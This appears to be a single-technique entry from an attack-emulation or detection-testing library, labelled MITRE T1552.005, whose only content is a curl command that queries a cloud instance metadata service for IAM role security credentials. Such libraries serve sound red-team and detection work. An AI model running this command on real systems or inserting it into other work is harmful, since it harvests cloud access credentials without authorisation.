# title: The metadata service of a cloud is asked for credentials
# technique: T1552.005
# needs: curl
# short: yes

curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role
